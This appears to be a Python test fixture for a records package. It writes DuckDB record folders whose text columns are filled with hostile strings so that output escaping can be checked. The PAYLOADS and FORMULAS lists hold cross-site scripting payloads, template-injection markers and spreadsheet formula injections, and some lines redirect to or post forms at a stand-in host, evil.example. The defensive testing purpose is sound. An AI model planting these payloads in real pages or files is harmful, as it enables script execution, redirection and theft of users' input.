"""Records on disk made of rows by hand: plain ones, and ones whose every text attacks the reader."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from typing import Any

from onrecord.record.folder import RecordFolder
from onrecord.record.schema import create_database, list_columns
from onrecord.record.write import RecordWriter

Row = dict[str, Any]

# Each tries another way out of text: tags, attributes, addresses, templates, other media.
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt\t:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</title><script>alert(1)</script>",
    "</textarea></style></script><b onclick=alert(1)>",
    "<a href='javascript:alert(1)'>go</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "{{ 7 * 7 }}{% for x in y %}${7*7}#{7*7}",
    "<!--><script>alert(1)--></script>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=p>",
    "\u202etxt.exe <details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "**<script>alert(1)</script>**",
    "[-<script>alert(1)</script>-]{+<img src=x onerror=alert(1)>+}",
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//evil.example")')
NEEDED = "select table_name, column_name from duckdb_columns() where not is_nullable"
FACTS = {"build": "b1", "title": "A story", "onrecord": "0.1.0"}
DAYS = [date(2025, 1, 1), date(2025, 1, 2)]
# What stands in columns that lead somewhere, by table and column.
LEADS = {"document": "doc", "origin": "doc", "events": "eve", "finding": "sta", "commitment": "com",
         "before": "pos", "after": "pos", "programme": "pro", "happening": "hap", "series": "ser",
         "speaker_id": "act", "actor_ids": "act", "target_ids": "act", "by_ids": "act",
         "to_ids": "act", "said_by_id": "act", "actor": "act"}  # fmt: skip
# Columns in which only the program's own words stand.
ENUMS = {"commitment": {"kind": "promise"}, "move": {"state": "kept", "basis": "read"}}
PREFIX = {"document": "doc", "statement": "sta", "event": "eve", "happening": "hap",
          "commitment": "com", "figure": "fig", "position": "pos", "shift": "shi",
          "programme": "pro", "actor": "act", "series": "ser"}  # fmt: skip


def write_hostile(folder: Path, texts: tuple[str, ...]) -> Path:
    """Write a record with a row in each table for each text, which stands in all its columns."""
    (folder / "built").mkdir(parents=True)
    with create_database(folder / "columns.duckdb") as connection:
        tables = list_columns(connection)
    with RecordWriter(RecordFolder(folder), "b1") as writer:
        for table, columns in tables.items():
            if table == "build":
                continue
            for at, text in enumerate(texts):
                assert writer.add(table, _make_row(table, columns, at, text))
        writer.finish(FACTS | {"as_of": texts[0]})
    return folder


def write_rows(folder: Path, rows: dict[str, list[Row]], build: str = "b1") -> Path:
    """Write a record of these rows by table; what a row lacks is empty, or a plain value."""
    (folder / "built").mkdir(parents=True, exist_ok=True)
    with create_database(folder / f"columns-{build}.duckdb") as connection:
        tables = list_columns(connection)
        needed = set(connection.execute(NEEDED).fetchall())
    with RecordWriter(RecordFolder(folder), build) as writer:
        for table, held in rows.items():
            for at, row in enumerate(held):
                plain = _make_row(table, tables[table], at, "x")
                kept = {n: v if (table, n) in needed else None for n, v in plain.items()}
                assert writer.add(table, kept | row)
        writer.finish(FACTS | {"build": build})
    return folder


def _make_row(table: str, columns: dict[str, str], at: int, text: str) -> Row:
    row = {name: _value(name, kind, at, text) for name, kind in columns.items()}
    row["id"] = f"{PREFIX.get(table, table)}-{at}"
    if table == "document":
        row |= {"text": f"{text}\nAnd {text}", "version_of": None, "dropped": [
            {"text": text, "reason": text, "line": 1}]}  # fmt: skip
    if table == "statement":
        row |= {"repeats": None, "outcome": "fails", "difference": text}
    return row | ENUMS.get(table, {})


def _value(name: str, kind: str, at: int, text: str) -> Any:
    if name in LEADS:
        value: Any = f"{LEADS[name]}-{at}"
        return [value] if kind.endswith("[]") else value
    if kind.startswith("STRUCT"):
        return []
    plain: dict[str, Any] = {"DOUBLE": 1.0, "INTEGER": 1, "BIGINT": 1, "BOOLEAN": True,
                             "DATE": DAYS[0], "DATE[]": DAYS, "DOUBLE[]": [1.0]}  # fmt: skip
    if name == "start":
        return 0
    if name == "end":
        return len(text)
    if kind in plain:
        return plain[kind]
    return [text] if kind.endswith("[]") else text
